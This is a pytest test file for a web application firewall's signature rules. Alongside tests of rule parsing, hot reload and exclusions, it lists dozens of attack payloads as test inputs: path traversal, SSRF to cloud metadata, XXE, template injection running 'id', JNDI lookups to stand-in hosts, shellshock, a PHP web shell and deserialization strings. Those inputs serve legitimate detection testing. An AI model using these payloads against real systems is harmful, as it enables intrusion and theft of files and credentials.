"""Signature rules: the data files load and validate, reload hot, and match what they claim."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest

from strongroom.config import WafSettings
from strongroom.edge.guard import GateRequest
from strongroom.edge.waf.engine import Waf
from strongroom.edge.waf.rules import (
    BUILTIN_RULES_DIR,
    RuleError,
    WafRules,
    compile_pattern,
    parse_file,
)

RULE = """
[[rule]]
id = "{id}"
category = "custom"
severity = "{severity}"
targets = ["args"]
patterns = ['{pattern}']
description = "test rule"
"""


def write(path: Path, text: str) -> None:
    path.write_text(text)
    # Make the change visible to an mtime poll even within one clock tick.
    stat = path.stat()
    os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000))


@pytest.fixture(scope="module")
def signatures() -> Waf:
    """The built-in rules alone (no tokenizing detectors)."""
    return Waf(WafSettings(), WafRules(), detectors=())


@pytest.fixture(scope="module")
def every_match() -> Waf:
    """The built-in rules with a threshold never reached, so every match is reported."""
    return Waf(WafSettings(inbound_threshold=10_000), WafRules(), detectors=())


def rule_ids(waf: Waf, request: GateRequest) -> set[str]:
    return set(waf.inspect(request).rule_ids)


def get(target: str, headers: list[tuple[bytes, bytes]] | None = None) -> GateRequest:
    return GateRequest("10.0.0.1", b"GET", target.encode(), headers or [], "r")


def post_json(document: object, target: bytes = b"/v1/things") -> GateRequest:
    return GateRequest(
        "10.0.0.1",
        b"POST",
        target,
        [(b"content-type", b"application/json")],
        "r",
        body=json.dumps(document).encode(),
    )


def post_xml(body: str) -> GateRequest:
    return GateRequest(
        "10.0.0.1", b"POST", b"/", [(b"content-type", b"text/xml")], "r", body=body.encode()
    )


def test_every_builtin_file_loads() -> None:
    for path in sorted(BUILTIN_RULES_DIR.glob("*.toml")):
        parse_file(path)
    rules = WafRules()
    assert len(rules.current.rules) > 40
    assert rules.errors == {}


def test_rule_ids_are_unique_across_builtin_files() -> None:
    ids = [
        r.id
        for path in BUILTIN_RULES_DIR.glob("*.toml")
        for r in parse_file(path).rules
        if not isinstance(r, str)
    ]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("pattern", [r"(a)\1", r"(?=x)y", r"(?<!x)y", r"(a"])
def test_patterns_re2_cannot_run_are_refused(pattern: str) -> None:
    with pytest.raises(RuleError):
        compile_pattern(pattern)


def test_catastrophic_backtracking_patterns_run_in_linear_time() -> None:
    regex = compile_pattern(r"(a+)+$|(?:\w+\s?)*!")
    started = time.perf_counter()
    assert regex.search("a" * 100_000 + "b") is None
    assert regex.search("word " * 20_000 + "?") is None
    assert regex.search("a" * 100_000) is not None
    assert time.perf_counter() - started < 1.0


def test_bad_rule_files_are_rejected_with_their_reason(tmp_path: Path) -> None:
    path = tmp_path / "bad.toml"
    write(path, RULE.format(id="x", severity="fatal", pattern="a"))
    with pytest.raises(RuleError, match="severity"):
        parse_file(path)
    write(path, RULE.format(id="x", severity="critical", pattern="(a"))
    with pytest.raises(RuleError, match="pattern"):
        parse_file(path)
    write(path, "[[rule]]\nid = 'x'\nbogus = 1\n")
    with pytest.raises(RuleError, match="unknown keys"):
        parse_file(path)


def test_operator_rules_are_added_and_hot_reloaded(tmp_path: Path) -> None:
    rules = WafRules(tmp_path)
    waf = Waf(WafSettings(), rules, detectors=())
    request = get("/?x=a+forbidden+word")
    assert not waf.inspect(request).blocked
    write(
        tmp_path / "local.toml", RULE.format(id="local-1", severity="critical", pattern="forbidden")
    )
    assert rules.reload_if_changed()
    assert waf.inspect(request).rule_ids == ["local-1"]
    assert not rules.reload_if_changed()


def test_a_broken_file_keeps_its_last_good_version(tmp_path: Path) -> None:
    path = tmp_path / "local.toml"
    write(path, RULE.format(id="local-1", severity="critical", pattern="forbidden"))
    rules = WafRules(tmp_path)
    write(path, "[[rule]\nthis is not toml")
    rules.reload_if_changed()
    assert str(path) in rules.errors
    assert any(r.id == "local-1" for r in rules.current.rules)
    write(path, RULE.format(id="local-2", severity="critical", pattern="other"))
    assert rules.reload_if_changed()
    assert rules.errors == {}
    assert {r.id for r in rules.current.rules} >= {"local-2"}
    assert not any(r.id == "local-1" for r in rules.current.rules)


def test_a_removed_file_takes_its_rules_with_it(tmp_path: Path) -> None:
    path = tmp_path / "local.toml"
    write(path, RULE.format(id="local-1", severity="critical", pattern="forbidden"))
    rules = WafRules(tmp_path)
    path.unlink()
    assert rules.reload_if_changed()
    assert not any(r.id == "local-1" for r in rules.current.rules)


def test_operators_can_replace_and_disable_builtin_rules(tmp_path: Path) -> None:
    write(
        tmp_path / "local.toml",
        RULE.format(id="lfi-unix-file", severity="notice", pattern="passwd")
        + '\n[[rule]]\nid = "scanner-user-agent"\nenabled = false\n',
    )
    rules = WafRules(tmp_path)
    by_id = {r.id: r for r in rules.current.rules}
    assert by_id["lfi-unix-file"].severity == 2
    assert "scanner-user-agent" not in by_id


def test_exclusion_by_route_location_and_category(tmp_path: Path) -> None:
    write(
        tmp_path / "exclusions.toml",
        '[[exclusion]]\nroute = "POST /v1/transfers"\n'
        'locations = ["json:$.metadata.*"]\ncategories = ["lfi"]\n',
    )
    waf = Waf(WafSettings(), WafRules(tmp_path), detectors=())
    document = {"metadata": {"path": "/etc/passwd"}}
    assert not waf.inspect(post_json(document, b"/v1/transfers")).blocked
    assert waf.inspect(post_json(document, b"/v1/other")).blocked
    assert waf.inspect(post_json({"note": "/etc/passwd"}, b"/v1/transfers")).blocked


def test_exclusion_by_rule_id_glob(tmp_path: Path) -> None:
    write(
        tmp_path / "exclusions.toml",
        '[[exclusion]]\nlocations = ["args:file"]\nrule_ids = ["lfi-*"]\n',
    )
    waf = Waf(WafSettings(), WafRules(tmp_path), detectors=())
    assert not waf.inspect(get("/?file=/etc/passwd")).blocked
    assert waf.inspect(get("/?other=/etc/passwd")).blocked


def test_default_exclusion_lets_oauth_loopback_redirects_through(signatures: Waf) -> None:
    target = "/oauth2/authorize?redirect_uri=http://127.0.0.1:8123/cb&state=x"
    assert not signatures.inspect(get(target)).blocked
    assert signatures.inspect(get("/v1/hooks?url=http://127.0.0.1:8123/cb")).blocked


ATTACKS = [
    ("lfi-traversal", get("/?f=..%2f..%2f..%2fetc%2fhosts")),
    ("lfi-traversal-path", get("/static/%2e%2e/%2e%2e/app.py")),
    ("lfi-unix-file", get("/?f=/etc/passwd")),
    ("lfi-unix-file", get("/?cmd=cat+/et%27c/pa%27ss%27wd")),
    ("lfi-windows-file", get("/?f=C:%5Cwindows%5Cwin.ini")),
    ("lfi-windows-file", get("/?f=%5C%5C10.0.0.5%5Cc$%5Cx")),
    ("lfi-app-secret-file", get("/.env")),
    ("lfi-app-secret-file", get("/.git/config")),
    ("lfi-stream-wrapper", get("/?page=php://filter/convert.base64-encode/resource=index")),
    ("lfi-stream-wrapper", get("/?u=file:///etc/./passwd")),
    ("ssrf-internal-url", get("/?url=http://127.0.0.1:6379/")),
    ("ssrf-internal-url", get("/?url=http://2130706433/")),
    ("ssrf-internal-url", get("/?url=http://0x7f000001/")),
    ("ssrf-internal-url", get("/?url=http://[::1]/admin")),
    ("ssrf-internal-url", get("/?url=http://017700000001/")),
    ("ssrf-internal-url", get("/?url=https://db.internal/x")),
    ("ssrf-cloud-metadata", get("/?u=http://169.254.169.254/latest/meta-data/iam")),
    ("ssrf-cloud-metadata", get("/?u=http://metadata.google.internal/computeMetadata/v1/")),
    ("ssrf-scheme", get("/?u=gopher://evil:25/_HELO")),
    ("ssrf-scheme", get("/?u=dict://127.0.0.1:11211/stats")),
    ("xxe-entity", post_xml('<!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><f>&x;</f>')),
    ("xxe-external-dtd", post_xml('<!DOCTYPE x SYSTEM "//x/x"><x>a</x>')),
    (
        "xxe-xinclude",
        post_xml(
            '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></x>'
        ),
    ),
    ("xxe-schema-location", post_xml('<x xsi:schemaLocation="http://evil.example/x.xsd"/>')),
    ("xxe-utf7", post_xml('<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-')),
    ("ssti-arithmetic-probe", get("/?name=%7B%7B7*7%7D%7D")),
    ("ssti-arithmetic-probe", get("/?name=%24%7B7*7%7D")),
    ("ssti-arithmetic-probe", get("/?name=%3C%25%3D+7*7+%25%3E")),
    ("ssti-double-brace-code", post_json({"n": "{{ ''.__class__.__mro__[1].__subclasses__() }}"})),
    ("ssti-double-brace-code", post_json({"n": "{{config.items()}}"})),
    ("ssti-dollar-expression", post_json({"n": "${T(java.lang.Runtime).getRuntime().exec('id')}"})),
    (
        "ssti-freemarker",
        post_json({"n": '<#assign ex="freemarker.template.utility.Execute"?new()>'}),
    ),
    ("ssti-velocity", post_json({"n": "#set($x = $class.inspect('java.lang.Runtime'))"})),
    ("ssti-statement-tags", post_json({"n": "{% import os %}{{ os.popen('id') }}"})),
    ("jndi-lookup", get("/", [(b"user-agent", b"${jndi:ldap://x.example/a}")])),
    ("jndi-lookup", get("/", [(b"accept-language", b"${jndi:dns://x.example/a}")])),
    ("jndi-obfuscated-lookup", get("/", [(b"x-api-version", b"${${lower:j}ndi:ldap://x/a}")])),
    ("jndi-obfuscated-lookup", get("/", [(b"referer", b"${${::-j}${::-n}di:rmi://x/a}")])),
    ("nosqli-operator-key", post_json({"user": "admin", "password": {"$ne": None}})),
    ("nosqli-operator-key", get("/login?user=admin&password[$ne]=x")),
    ("nosqli-operator-value", get("/?q=true,+$where:+%271==1%27")),
    ("nosqli-mongo-shell", get("/?q=db.users.find({})")),
    ("nosqli-server-side-js", get("/?q=1;do{x=1}while(true)")),
    ("crlf-header-injection", get("/?next=%0d%0aSet-Cookie:sid=1")),
    ("crlf-header-injection", get("/?next=%250d%250aLocation:%20http://evil")),
    ("crlf-in-path", get("/a%0d%0ab")),
    ("mail-command-injection", get("/?to=x%0d%0aRCPT+TO:+victim@example.com")),
    ("mail-command-injection", get("/?to=x%0d%0aA001+FETCH+1+BODY[]")),
    ("ssi-directive", get("/?c=%3C!--%23exec+cmd=%22id%22--%3E")),
    ("ldap-filter-injection", get("/?user=*)(|(objectclass=*)")),
    ("ldap-filter-injection", get("/?user=admin)(%26(uid=*)")),
    ("ldap-filter-injection", get("/?user=userPassword:2.5.13.18:=x")),
    ("rce-shellshock", get("/", [(b"user-agent", b"() { :; }; /bin/id")])),
    ("rce-php-code", post_json({"c": "<?php system($_GET['c']); ?>"})),
    ("rce-asp-code", post_json({"c": 'Response.Write("x")'})),
    ("rce-python-code", post_json({"c": "__import__('os').system('id')"})),
    ("rce-java-code", post_json({"c": "Runtime.getRuntime().exec(cmd)"})),
    ("rce-node-code", post_json({"c": "require('child_process').exec('id')"})),
    ("rce-deserialization", post_json({"c": "!!python/object/new:os.system [id]"})),
    ("rce-deserialization", post_json({"c": 'O:8:"stdClass":1:{s:1:"a";i:1;}'})),
    ("rce-prototype-pollution", post_json({"__proto__": {"admin": True}})),
    (
        "scanner-user-agent",
        get("/", [(b"user-agent", b"sqlmap/1.7.4#stable (https://sqlmap.org)")]),
    ),
    (
        "scanner-user-agent",
        get("/", [(b"user-agent", b"Mozilla/5.0 (compatible; Nmap Scripting Engine)")]),
    ),
    ("scanner-oast-domain", get("/?u=http://abc.oastify.com/x")),
    ("protocol-null-byte", get("/?f=report.pdf%00.php")),
    ("protocol-overlong-utf8", get("/?f=%25c0%25ae%25c0%25ae/x")),
    ("protocol-method", GateRequest("10.0.0.1", b"TRACE", b"/", [], "r")),
]


@pytest.mark.parametrize(
    ("rule_id", "request_"), ATTACKS, ids=[f"{i}-{r[0]}" for i, r in enumerate(ATTACKS)]
)
def test_attack_is_matched_by_its_rule(
    signatures: Waf, every_match: Waf, rule_id: str, request_: GateRequest
) -> None:
    assert rule_id in rule_ids(every_match, request_)
    assert signatures.inspect(request_).blocked


BENIGN = [
    get(
        "/v1/accounts/3f2b6c1e-6a3b-4b7e-9a51-0c1d2e3f4a5b/transfers?limit=50&cursor=eyJpZCI6MTIzfQ"
    ),
    get("/search?q=how+to+read+a+hosts+file+on+a+mac%3F"),
    get("/docs/../index.html".replace("/..", "")),
    get("/?redirect=https%3A%2F%2Fexample.com%2Fdashboard%3Ftab%3D2"),
    get("/?next=/account/settings&lang=en-GB"),
    get("/?q=%7B%7B+name+%7D%7D+template"),
    get("/?q=price+%24%7BAMOUNT%7D+USD"),
    get("/?q=50%25+off+%26+free+shipping"),
    get("/?email=john%2Bnews%40example.com"),
    get("/?ref=../pricing"),
    get("/", [(b"referer", b"http://localhost:3000/checkout?step=2")]),
    get("/", [(b"origin", b"http://127.0.0.1:8080")]),
    get(
        "/",
        [
            (
                b"user-agent",
                b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
            )
        ],
    ),
    get("/", [(b"user-agent", b"curl/8.5.0")]),
    get("/", [(b"user-agent", b"python-requests/2.32.3")]),
    get(
        "/",
        [
            (
                b"cookie",
                b"_ga=GA1.2.1234567890.1700000000; OptanonConsent=isGpcEnabled=0&datestamp=Thu+Nov+23+2023+10%3A00%3A00+GMT%2B0100&groups=C0001%3A1%2CC0002%3A0",
            )
        ],
    ),
    get(
        "/",
        [
            (
                b"accept",
                b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
            )
        ],
    ),
    post_json({"note": "Please call me at 555-0100.\nLocation: Berlin\nThanks!"}),
    post_json({"address": "12 Rue de l'Église, 75001 Paris", "name": "Zoë O'Brien-D'Angelo"}),
    post_json({"comment": "Use {{ user.name }} in the template, or ${NAME} in the shell."}),
    post_json({"description": "Select the union of both sets; drop table football at 5pm"}),
    post_json({"file": "C:\\Users\\anna\\Documents\\invoice-2024.pdf"}),
    post_json({"webhook_url": "https://hooks.example.com/strongroom?token=abc"}),
    post_json({"text": "Dear Finn,\nQUIT smoking!\nData: attached\nRegards"}),
    post_json({"formula": "(a=1)(b=2) and *(x)"}),
    post_xml('<?xml version="1.0"?><order><id>7</id><note>5 &lt; 7</note></order>'),
]


@pytest.mark.parametrize("request_", BENIGN, ids=[str(i) for i in range(len(BENIGN))])
def test_benign_request_is_not_blocked(signatures: Waf, request_: GateRequest) -> None:
    result = signatures.inspect(request_)
    assert not result.blocked, [m.as_dict() for m in result.matches]


def test_client_chosen_header_names_share_one_rule_group() -> None:
    ruleset = WafRules().current
    assert ruleset.header_class("x-a1b2c3") == ruleset.header_class("x-ffff0000")
    assert ruleset.header_class("x-a1b2c3") != ruleset.header_class("user-agent")
    assert ruleset.header_class("accept")[0] is True
    first = ruleset.group("header", "x-a1b2c3", False, 1)
    assert ruleset.group("header", "x-ffff0000", False, 1) is first
